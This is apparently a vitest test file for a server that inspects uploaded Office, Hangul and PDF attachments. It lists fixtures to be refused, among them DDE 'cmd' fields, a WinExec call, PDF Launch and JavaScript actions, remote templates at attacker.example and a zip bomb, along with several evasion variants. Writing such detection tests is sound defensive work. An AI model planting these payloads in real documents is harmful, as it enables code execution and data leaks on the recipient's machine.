import zlib from 'node:zlib';
import { zipSync } from 'fflate';
import { getAttachmentType } from '@site/contract/attachment';
import { describe, expect, test } from 'vitest';

import { findTypeProblem } from '../../server/attachments/attachments.ts';
import { inspectDocument, type Inspection } from '../../server/attachments/inspect-document.ts';
import { createPdf } from './fixture/inquiry.ts';
import {
  contentTypes,
  docxWith,
  hwpxWith,
  OFFICE,
  pptxWith,
  relationship,
  relationshipsTo,
  xlsxWith,
} from './fixture/zip.ts';

/** Inspects a document in this process, because the server's separate process takes longer to start than to work. */
const getProblem = (name: string, content: Buffer): string | undefined =>
  findTypeProblem({ name, content }) ??
  inspectDocument({ type: getAttachmentType(name) as Inspection['type'], content });

const begin = '<w:fldChar w:fldCharType="begin"/>';
const separate = '<w:fldChar w:fldCharType="separate"/>';
const end = '<w:fldChar w:fldCharType="end"/>';
const code = (text: string) => `<w:instrText xml:space="preserve">${text}</w:instrText>`;
const field = (text: string, result = '') => begin + code(text) + separate + result + end;
const docx = (body: string) => docxWith({}, body);
const docxRelated = (xml: string) => docxWith({ 'word/_rels/document.xml.rels': xml });
const formula = (text: string) => xlsxWith({}, `<c><f>${text}</f></c>`);
const xlsxRelated = (xml: string) => xlsxWith({ 'xl/_rels/workbook.xml.rels': xml });
const drawing = (svg: string) =>
  docxWith({ 'word/media/a.svg': `<svg xmlns="http://www.w3.org/2000/svg">${svg}</svg>` });
const part = (name: string, type: string, content: string | Buffer = '<x/>') => ({
  '[Content_Types].xml': contentTypes(
    'vnd.openxmlformats-officedocument.wordprocessingml.document.main',
    `<Override PartName="/${name}" ContentType="${type}"/>`,
  ),
  [name]: content,
});
const hpf = (item: string) =>
  hwpxWith({ 'Contents/content.hpf': `<opf:package>${item}</opf:package>` });

const pdf = (text: string) => Buffer.from(`%PDF-1.7\n${text}\n%%EOF\n`, 'latin1');
const object = (text: string) => pdf(`1 0 obj ${text} endobj`);
/** A PDF whose objects are in a compressed stream. */
const packedPdf = (objects: string | Buffer, dictionary = '', type = '/Type /ObjStm') =>
  Buffer.concat([
    Buffer.from(
      `%PDF-1.7\n1 0 obj\n<< ${type} /N 1 /First 4 ${dictionary} /Filter /FlateDecode >>\nstream\n`,
    ),
    zlib.deflateSync(objects),
    Buffer.from('\nendstream\nendobj\n%%EOF\n'),
  ]);
/** A file attached to a page, with the minimum that the standard requires. */
const ATTACHED_FILE = [
  '4 0 obj <</Type/Annot/Subtype/FileAttachment/Rect[5 5 8 8]/FS<</F(run.exe)/EF<</F 5 0 R>>>>>> endobj',
  '5 0 obj <</Length 15>> stream 123456789012345 endstream endobj',
].join('\n');

/** The script that Hangul writes into documents without macros. */
const NO_MACROS = {
  header: 'var Documents = XHwpDocuments;\r\nvar Document = Documents.Active_XHwpDocument;\r\n',
  source: 'function OnDocument_New()\r\n{\r\n\t//todo : \r\n}\r\n',
};
const OUTSIDE = 'https://attacker.example/template.dotm';
const SHARE = String.raw`\\attacker.example\share\x`;

/** A ZIP archive with some of its bytes changed. */
function changedDocx(change: (bytes: Buffer, directory: number) => void): Buffer {
  const bytes = Buffer.from(docxWith({ 'word/document.xml': '<w:document/>' }));
  change(bytes, bytes.indexOf('PK\x01\x02', 0, 'latin1'));
  return bytes;
}
/** The same parts as another program packs them: with folders, extra fields, and compression. */
const packedAgain = (parts: Readonly<Record<string, string>>): Buffer =>
  Buffer.from(
    zipSync(
      Object.fromEntries(
        Object.entries(parts).map(([name, text]) => [
          name,
          [
            Buffer.from(text),
            {
              level: text === '' ? 0 : 9,
              extra: { 0x000a: new Uint8Array(32) },
              mtime: new Date(2026, 1),
            },
          ],
        ]),
      ),
    ),
  );
const HWPX_PARTS = { 'version.xml': '<v/>', 'Contents/content.hpf': '<opf:package/>' };

/** Documents by file name and by what they contain. */
type Documents = Readonly<Record<string, Readonly<Record<string, Buffer>>>>;

const listDocuments = (documents: Documents): [what: string, name: string, content: Buffer][] =>
  Object.entries(documents).flatMap(([name, contents]) =>
    Object.entries(contents).map(([what, content]): [string, string, Buffer] => [
      what,
      name,
      content,
    ]),
  );

/** Refused documents by their problem. */
const REFUSED: Readonly<Record<string, Documents>> = {
  'attachment.macro': {
    'a.docx': {
      'a VBA project': docxWith({ 'word/vbaProject.bin': 'macro' }),
      'the type of macros': OFFICE.docm,
      'an ActiveX control': docxWith({ 'word/activeX/activeX1.bin': 'x' }),
      'a control': docx('<w:control r:id="r1"/>'),
      'a field that runs a macro': docx(field('MACROBUTTON Run [click]')),
      'a macro in a document within it': docxWith({
        'word/embeddings/Sheet.xlsx': xlsxWith({ 'xl/vbaProject.bin': 'x' }),
      }),
      'a script in a drawing': drawing('<svg:script>alert(1)</svg:script>'),
      'an event in a drawing': drawing('<path onload="alert(1)"/>'),
    },
    'a.xlsx': {
      'the relationship of a macro sheet': xlsxRelated(
        relationship(
          'http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet',
          'macrosheets/sheet1.xml',
        ),
      ),
      'a shape that runs a macro of another file': xlsxWith({
        'xl/drawings/drawing1.xml': `<xdr:sp macro="'${SHARE}'!Run"/>`,
      }),
    },
    'a.pptx': {
      'a button of a slide that starts a program': pptxWith(
        {},
        '<a:hlinkClick action="ppaction://program" r:id="r1"/>',
      ),
    },
    'a.hwpx': {
      'a macro of Hangul': hwpxWith({
        'Scripts/sourceScripts': NO_MACROS.source.replace('//todo', 'Run("cmd") //todo'),
      }),
      'a macro behind what looks like a comment': hwpxWith({
        'Scripts/sourceScripts.js': NO_MACROS.source.replace('todo', 'todo\u2028Run()'),
      }),
    },
    'a.pdf': {
      'a script': object('<< /S /JavaScript /JS (app.alert(1)) >>'),
      'a script with an escaped name': object('<< /S /J#61vaScript >>'),
      'a program to start': object('<< /S /Launch /F (cmd.exe) >>'),
      'a script in a compressed stream': packedPdf('1 0 << /S /JavaScript >>'),
      'a script in a stream whose dictionary is long': packedPdf(
        '1 0 << /S /JavaScript >>',
        `/Pad (${'A'.repeat(3000)} obj)`,
      ),
      'a script in a stream that does not tell its kind': packedPdf(
        '% 1\n1 0 << /S /JavaScript >>',
        '',
        '',
      ),
    },
  },
  'attachment.embedded': {
    'a.docx': {
      'an OLE object': docxWith({ 'word/embeddings/oleObject1.bin': 'OLE' }),
      'a program': docxWith({ 'word/media/run.exe': 'MZ' }),
      'an archive': docxWith({ 'word/media/more.zip': 'PK' }),
      'a web page to be merged': docxRelated(relationship('aFChunk', 'page.html')),
    },
    'a.pptx': {
      'a film': pptxWith({ 'ppt/media/film.mp4': 'x' }),
    },
    'a.hwpx': {
      'an object of Hangul': hwpxWith({ 'BinData/ole1.ole': 'OLE' }),
    },
    'a.pdf': {
      'a file within it': object('<< /Names << /EmbeddedFiles 2 0 R >> >>'),
      'a file that is attached to a page': pdf(ATTACHED_FILE),
      'a file of a text': object('<< /AF [<< /F (a.exe) /E#46 << /UF 5 0 R >> >>] >>'),
      'a collection of files': object('<< /Collection << /View /D >> >>'),
      'an annotation that plays': object('<< /Subtype /Screen /Rect [0 0 1 1] >>'),
    },
  },
  'attachment.external': {
    'a.docx': {
      'a template from outside': docxWith({
        'word/_rels/settings.xml.rels': relationshipsTo('attachedTemplate', OUTSIDE),
      }),
      'a picture from outside': docxRelated(relationshipsTo('image', OUTSIDE)),
      'a picture from outside that does not say so': docxRelated(relationship('image', OUTSIDE)),
      'a picture of a share': docxRelated(relationship('image', '//attacker.example/x.png')),
      'a link to a network share': docxRelated(relationshipsTo('hyperlink', 'file://host/a')),
      'a template whose address ends like an element': docxWith({
        'word/_rels/settings.xml.rels': relationshipsTo('attachedTemplate', `${OUTSIDE}?>`),
      }),
      'a template under another prefix': docxWith({
        'word/_rels/settings.xml.rels': relationshipsTo('attachedTemplate', OUTSIDE).replaceAll(
          /(<\/?)Rel/g,
          '$1r-1:Rel',
        ),
      }),
      'an add-in of the web': docxRelated(
        relationship(
          'http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes',
          'taskpanes.xml',
        ),
      ),
      'a field that links': docx(field(String.raw`LINK Excel.Sheet.8 "\\\\evil\\x.xls" A1`)),
      'a field that includes a text with slashes': docx(field('INCLUDETEXT "//evil/a"')),
      'a field that includes a picture': docx(field('INCLUDEPICTURE "http://evil/a.png"')),
      'a field that names another document': docx(field('RD "x.docx"')),
      'a query of a database': docx('<w:fldSimple w:instr="DATABASE \\d x"/>'),
      'DDE in an attribute': docx("<w:fldSimple w:instr = 'DDEAUTO cmd'/>"),
      'DDE in a CDATA section': docx(field('<![CDATA[DDEAUTO cmd]]>')),
      'DDE around a comment': docx(field('DDE<!-- -->AUTO cmd')),
      'DDE in pieces': docx(begin + code('DD') + code('EAUTO cmd') + end),
      'DDE in references': docx(field('&#68;&#x44;E cmd "x"')),
      'DDE without the beginning of a field': docx(code('DDEAUTO cmd')),
      'DDE in a deleted field': docx(`${begin}<w:delInstrText>DDEAUTO cmd</w:delInstrText>${end}`),
      'DDE in the result of a field': docx(field('PAGE', field('DDEAUTO cmd'))),
      'a letter that is merged with data': docxWith({
        'word/settings.xml': '<w:settings><w:mailMerge/></w:settings>',
      }),
      'a picture of older releases from outside': docx(`<v:imagedata o:href="${OUTSIDE}"/>`),
      'a style sheet from outside': docxWith({
        'customXml/item1.xml': `<?xml-stylesheet href="${OUTSIDE}"?><x/>`,
      }),
      'a picture in a drawing from outside': drawing(`<image href="${OUTSIDE}"/>`),
      'a font in a drawing from outside': drawing(`<style>@font-face{src:url(${OUTSIDE})}</style>`),
    },
    'a.pptx': {
      'a link that opens under the pointer': pptxWith({}, '<a:hlinkMouseOver r:id="r1"/>'),
    },
    'a.xlsx': {
      'a connection to a database': xlsxRelated(relationship('connections', 'connections.xml')),
      'a query of a web page': xlsxRelated(relationship('queryTable', 'queryTable1.xml')),
      'a link to another workbook': xlsxRelated(
        relationship('externalLink', 'externalLinks/externalLink1.xml'),
      ),
      'a DDE link': xlsxWith({ 'xl/externalLinks/externalLink1.xml': '<ddeLink/>' }),
      'a DDE formula': formula("cmd|'/c calc'!A1"),
      'a formula that asks the web': formula('WEBSERVICE(&quot;http://evil/&quot;&amp;A1)'),
      'the same function with its prefix': formula('_xlfn.WEBSERVICE(A1)'),
      'a picture that a formula loads': formula('_xlfn.IMAGE(A1)'),
      'a formula in a rule of formats': xlsxWith({}, '<x:formula>RTD(A1)</x:formula>'),
      'a name that calls a library': xlsxWith(
        {},
        '<definedName name="x">CALL("kernel32","WinExec")</definedName>',
      ),
      'a formula that names a file': formula(`'${SHARE}[a.xlsx]S'!A1`),
      'a pivot table of outside data': xlsxWith({
        'xl/pivotCache/a.xml':
          '<pivotCacheDefinition><cacheSource type="external"/></pivotCacheDefinition>',
      }),
    },
    'a.hwpx': {
      'a film of Hangul that is elsewhere': hpf(
        String.raw`<opf:item href="C:\\Users\\a.avi" media-type="image/avi" isEmbeded="0"/>`,
      ),
      'a picture of Hangul from a share': hpf(
        '<opf:item href="//evil/a.png" media-type="image/png"/>',
      ),
    },
    'a.pdf': {
      'another file that it opens by itself': object(
        String.raw`<</OpenAction<</S/GoToR/F(\\\\\\\\evil\\\\x.pdf)>>>>`,
      ),
      'an address that it opens by itself': object('<</OpenAction<</S/URI/URI(http://evil/)>>>>'),
      'the same by reference': pdf(
        '1 0 obj <</OpenAction 2 0 R>> endobj 2 0 obj <</S/URI/URI(http://evil/)>> endobj',
      ),
      'an address that opens with a page': object('<</AA<</O<</S/URI/URI(http://evil/)>>>>>>'),
      'an address behind an action of its own': object(
        '<</OpenAction<</S/GoTo/D[1 0 R/Fit]/Next<</S/URI/URI(http://evil/)>>>>>>',
      ),
      'an action in a text, where a table of places may lead': object(
        '<< /Title (2 0 obj << /S /GoToR /F \\(x\\) >> endobj) >>',
      ),
      'a click on a file': object('<< /A << /S /URI /URI (file:///c:/x) >> >>'),
      'a stream from another file': pdf(
        '1 0 obj << /Length 0 /F (http://evil/x) >> stream\nendstream endobj',
      ),
      'a picture from a print shop': object('<< /OPI << /2.0 2 0 R >> >>'),
      'an action in a compressed stream': packedPdf('1 0 << /A << /S /GoToR /F (x) >> >>'),
    },
  },
  'attachment.unknown': {
    'a.docx': {
      'a relationship that nobody knows': docxRelated(
        relationship('https://a.example/loadsSomething', 'x.xml'),
      ),
      'a content type that nobody knows': docxWith(part('word/x.xml', 'application/x-run')),
      'a field whose name another one makes': docx(
        begin + field('QUOTE 68 68 69') + code(' cmd') + end,
      ),
      'a field that nobody knows': docx(field('RUNSOMETHING x')),
    },
    'a.hwpx': {
      'a field of Hangul that nobody knows': hwpxWith({
        'Contents/section0.xml': '<hp:fieldBegin type="RUN"/>',
      }),
    },
    'a.pdf': {
      'an action that nobody knows': object('<< /A << /S /Run >> >>'),
    },
  },
  'attachment.chart': {
    'a.hwpx': {
      'a chart of Hangul': hwpxWith({
        'Chart/chart1.xml': '<c:chart/>',
        'BinData/ole1.ole': 'OLE',
      }),
    },
  },
  'attachment.password': {
    'a.hwpx': {
      'a password of Hangul': hwpxWith({
        'META-INF/manifest.xml': '<m><odf:encryption-data/></m>',
      }),
    },
    'a.docx': {
      'a part with a password': changedDocx(
        (bytes, at) => void (bytes.writeUInt16LE(1, 6), bytes.writeUInt16LE(1, at + 8)),
      ),
    },
    'a.pdf': {
      'a password': pdf('trailer << /Encrypt 5 0 R >>'),
    },
  },
  'attachment.mismatch': {
    'a.docx': {
      'the content of an archive': OFFICE.zip,
      'the content of a sheet': OFFICE.xlsx,
      'the content of an HWPX': OFFICE.hwpx,
      'two beginnings': docxWith({
        '_rels/.rels':
          relationship('officeDocument', 'main.xml').replace('</Relationships>', '') +
          relationship('officeDocument', 'other.xml').replace(/^<Relationships[^>]*>/, ''),
      }),
    },
    'a.hwpx': {
      'the content of a book': OFFICE.epub,
    },
  },
  'attachment.invalid': {
    'a.docx': {
      'the head of an archive alone': OFFICE.docx.subarray(0, 20),
      'text before the archive': Buffer.concat([Buffer.from('PK\x03\x04'), OFFICE.docx]),
      'text behind the archive': Buffer.concat([OFFICE.docx, Buffer.from('<html>')]),
      entities: docxWith({ 'word/a.xml': '<!DOCTYPE a [<!ENTITY b "DDE">]><a/>' }),
      'a document type from outside': docxWith({
        'word/a.xml': '<!DOCTYPE a SYSTEM "http://evil/a.dtd"><a/>',
      }),
      'parts that are not XML': docxWith({ 'word/a.xml': '<a><b></a>' }),
      'parts in another encoding': docx('\ufffd\0<'),
      'two parts of one name': docxWith({ 'word/a.xml': '<a/>', 'word/A.XML': '<a/>' }),
      'a part outside of its archive': docxWith({ '../a.xml': '<a/>' }),
      'a size that is not true': changedDocx((bytes, at) => void bytes.writeUInt32LE(1, at + 24)),
      'a checksum that is not true': changedDocx(
        (bytes, at) => void bytes.writeUInt32LE(1, at + 16),
      ),
      'a part that is named in two ways': changedDocx((bytes) => void bytes.write('X', 30)),
    },
    'a.pdf': {
      'an archive behind it': Buffer.concat([pdf(''), OFFICE.zip]),
      'objects that are packed twice': Buffer.from(
        packedPdf(zlib.deflateSync('1 0 << /S /JavaScript >>'))
          .toString('latin1')
          .replace('/FlateDecode', '[/FlateDecode /FlateDecode]'),
        'latin1',
      ),
      'a predictor over its objects': packedPdf('<< >>', '/DecodeParms << /Predictor 12 >>'),
      'objects that do not unpack': pdf(
        '1 0 obj << /Type /ObjStm /Filter /FlateDecode >>\nstream\nx\nendstream',
      ),
    },
  },
  'attachment.form': {
    'a.pdf': {
      'a form that sends': object('<< /A << /S /SubmitForm /F (http://evil/) >> >>'),
      'a form that is a program': object('<< /XFA 2 0 R >>'),
    },
  },
};

describe.each(Object.entries(REFUSED))('%s', (problem, documents) => {
  test.each(listDocuments(documents))('refuses a document with %s', (_what, name, content) => {
    expect(getProblem(name, content)).toBe(problem);
  });
});

/** Accepted documents by file name and by what they contain. */
const ACCEPTED: Documents = {
  'a.docx': {
    'no more than its kind': OFFICE.docx,
    'links to the web': docxRelated(relationshipsTo('hyperlink', 'https://a.example/')),
    'links to mail': docxRelated(relationshipsTo('hyperlink', 'mailto:a@example.com')),
    'a picture': docxWith({
      'word/_rels/document.xml.rels': relationship('image', 'media/image1.png'),
      'word/media/image1.png': 'PNG',
    }),
    'comments, notes and headers': docxRelated(relationship('comments', 'comments.xml')),
    'parts in the strict variant': docxRelated(
      relationship('http://purl.oclc.org/ooxml/officeDocument/relationships/styles', 'styles.xml'),
    ),
    'a signature': docxWith({
      ...part(
        '_xmlsignatures/origin.sigs',
        'application/vnd.openxmlformats-package.digital-signature-origin',
        '',
      ),
      '_rels/more.rels': relationship(
        'http://schemas.openxmlformats.org/package/2006/relationships/digital-signature/origin',
        '_xmlsignatures/origin.sigs',
      ),
    }),
    'a type that no part has': docxWith({
      '[Content_Types].xml': contentTypes(
        'vnd.openxmlformats-officedocument.wordprocessingml.document.main',
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
      ),
    }),
    'a table of contents': docx(
      begin +
        code('TOC \\o "1-3" \\h') +
        separate +
        field('HYPERLINK \\l "_Toc1"', field('PAGEREF _Toc1 \\h')) +
        end,
    ),
    'page numbers, dates and cross-references': docx(
      field('PAGE') + field(' DATE \\@ "yyyy-MM-dd" ') + field('REF _Ref1 \\h'),
    ),
    'a link that is a field': docx(field('HYPERLINK "https://a.example/"')),
    'a calculation': docx(field('=SUM(ABOVE)')),
    citations: docx(field('ADDIN ZOTERO_ITEM CSL_CITATION {}')),
    'places to type at': docx(field('MACROBUTTON NoMacro [이름]') + field('FORMTEXT')),
    'characters in a circle': docx(field('eq \\o\\ac(○,印)')),
    'a condition with a field in it': docx(
      begin + code('IF ') + field('PAGE') + code(' = 1 "a" "b"') + end,
    ),
    'a sheet behind a chart': docxWith({
      'word/charts/chart1.xml': '<c:chart><c:f>Sheet1!$A$1</c:f></c:chart>',
      'word/embeddings/Sheet.xlsx': OFFICE.xlsx,
    }),
    'the words of an attack as text': docx('<w:t>DDE, javascript: and INCLUDETEXT https:</w:t>'),
    'a drawing of one long attribute': drawing(`<path d="${'M0 0'.repeat(50_000)}"/>`),
    'a drawing with links, gradients and a picture in it': drawing(
      '<a href="https://a.example/"><path fill="url(#g)"/></a><image href="data:image/png;base64,AA=="/>',
    ),
    'the document type of drawings': docxWith({
      'word/media/a.svg':
        '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg/>',
    }),
  },
  'a.xlsx': {
    'no more than its kind': OFFICE.xlsx,
    'a link to a place in it': xlsxRelated(relationship('hyperlink', '#Sheet1!A1')),
    formulas: formula('IFERROR(VLOOKUP(A1,표!$A:$B,2,FALSE),&quot;a|b!c&quot;)'),
    'formulas of newer releases': formula(
      '_xlfn.LET(_xlpm.x,_xlfn._xlws.FILTER(A:A,B:B),_xlfn.XLOOKUP(1,_xlpm.x,C:C))',
    ),
    'a function that the workbook defines': xlsxWith(
      {},
      '<definedName name="Twice">_xlfn.LAMBDA(_xlpm.x,2*_xlpm.x)</definedName><c><f>Twice(A1)</f></c>',
    ),
    'a link in a formula': formula('HYPERLINK(&quot;https://a.example/&quot;,&quot;a&quot;)'),
    'sheets that are named in many ways': formula("SUM('2026 (1월)'!A1,'a-b'!B2,'1월:3월'!C3)"),
    'a pivot table of its own data': xlsxWith({
      'xl/pivotCache/a.xml':
        '<pivotCacheDefinition refreshOnLoad="1"><cacheSource type="worksheet"/></pivotCacheDefinition>',
    }),
    'drawings as Excel writes them': xlsxWith({
      'xl/drawings/vmlDrawing1.vml': '<xml><v:textbox>a<br>b</v:textbox></xml>',
    }),
    'shapes without a macro': xlsxWith({
      'xl/drawings/drawing1.xml': '<xdr:sp macro="" textlink="Sheet1!$A$1"/>',
    }),
    'what online sheets add': xlsxWith({
      'xl/metadata': 'x',
      'xl/_rels/workbook.xml.rels': relationship(
        'http://customschemas.google.com/relationships/workbookmetadata',
        'metadata',
      ),
    }),
  },
  'a.pptx': {
    'no more than its kind': OFFICE.pptx,
    'buttons that lead to other slides': pptxWith(
      {},
      '<a:hlinkClick action="ppaction://hlinkshowjump?jump=nextslide" r:id=""/><a:hlinkMouseOver action="ppaction://hlinksldjump" r:id="r2"/>',
    ),
  },
  'a.hwpx': {
    'no more than its kind': OFFICE.hwpx,
    'an equation': hwpxWith({
      'Contents/section0.xml': '<hp:equation><hp:script>a over b</hp:script></hp:equation>',
    }),
    'links and fields of Hangul': hwpxWith({
      'Contents/section0.xml':
        '<a><hp:fieldBegin type="HYPERLINK"/><hp:fieldBegin type="CLICK_HERE"/></a>',
    }),
    'pictures of Hangul': hpf(
      '<opf:item href="BinData/image1.bmp" media-type="image/bmp" isEmbeded="1"/>',
    ),
    'the place of macros without any': hwpxWith({
      'Scripts/headerScripts': Buffer.from(NO_MACROS.header, 'utf16le'),
      'Scripts/sourceScripts.js': NO_MACROS.source,
    }),
    'a compressed mimetype and fields of another program': packedAgain({
      mimetype: 'application/hwp+zip',
      ...HWPX_PARTS,
    }),
    'its parts in another order, with folders': packedAgain({
      'Contents/': '',
      ...HWPX_PARTS,
      mimetype: 'application/hwp+zip',
    }),
    'no mimetype': packedAgain(HWPX_PARTS),
  },
  'a.pdf': {
    'no more than its kind': Buffer.from(createPdf(100)),
    'links to the web': object(
      '<< /Type /Annot /Subtype /Link /Rect [0 0 1 1] /F 4 /A << /S /URI /URI (https://a.example/) >> >>',
    ),
    'a link without a scheme': object('<< /A << /S /URI /URI (www.a.example) >> >>'),
    'a first page to show': object('<< /OpenAction << /S /GoTo /D [3 0 R /Fit] >> >>'),
    'a first page by its place': object('<< /OpenAction [3 0 R /XYZ null null 0] >>'),
    bookmarks: pdf(
      '1 0 obj << /Title (a) /A 2 0 R /Next 3 0 R >> endobj 2 0 obj << /S /GoTo /D (a) >> endobj 3 0 obj << /Title (b) /Dest (b) >> endobj',
    ),
    'a form to fill in and print': object(
      '<< /Subtype /Widget /Rect [0 0 1 1] /FT /Tx /AA << /D << /S /Named /N /Print >> >> >>',
    ),
    'names of fonts that are like keys': pdf(
      '1 0 obj << /Resources << /Font << /A 2 0 R /EF 2 0 R /F 2 0 R >> >> >> endobj 2 0 obj << /Type /Font /Subtype /Type1 >> endobj',
    ),
    'the structure of a tagged document': object('<< /S /Table /A << /O /Table /Summary (a) >> >>'),
    'objects in a compressed stream': packedPdf('1 0 << /Type /Page >>'),
    'the words of an attack in a compressed page': packedPdf(
      '1 0 0 1 50 700 cm (HTML/JavaScript) Tj',
      '',
      '',
    ),
    'words in a page': pdf('1 0 obj << /Length 3 >>\nstream\n/JS\nendstream endobj'),
  },
};

test.each(listDocuments(ACCEPTED))('accepts a document with %s', (_what, name, content) => {
  expect(getProblem(name, content)).toBeUndefined();
});

test('refuses a document that unpacks to more than the memory', () => {
  const bomb = zipSync({ 'word/document.xml': new Uint8Array(70 * 1024 * 1024) });
  expect(bomb.length).toBeLessThan(2 * 1024 * 1024);
  expect(getProblem('a.docx', Buffer.from(bomb))).toBe('attachment.invalid');
});

test('refuses unclosed elements before they use memory', () => {
  expect(getProblem('a.docx', docx('<a>'.repeat(1_000_000)))).toBe('attachment.invalid');
});

test.each([
  // With a cost that grows with the square of the length, each of these would take more than an hour.
  ['bars in a formula', 'a.xlsx', formula('|'.repeat(2_000_000)), 'attachment.invalid'],
  ['fields', 'a.docx', docx('<w:fldSimple w:instr="PAGE "/>'.repeat(50_000)), undefined],
  ['letters in formulas', 'a.xlsx', formula(`${'a'.repeat(8000)}</f><f>`.repeat(200)), undefined],
  ['texts that do not end', 'a.pdf', pdf('1 0 obj ('.repeat(200_000)), 'attachment.invalid'],
  ['comments that do not end', 'a.pdf', pdf('1 0 obj %'.repeat(200_000)), 'attachment.invalid'],
  ['lists that do not end', 'a.pdf', pdf('1 0 obj ['.repeat(200_000)), undefined],
  ['references', 'a.pdf', object(`<< /A [${'1 0 R '.repeat(200_000)}] >>`), undefined],
])(
  '%s that are written to be slow take no longer than their length',
  (_what, name, content, problem) => {
    expect(getProblem(name, content)).toBe(problem);
  },
);
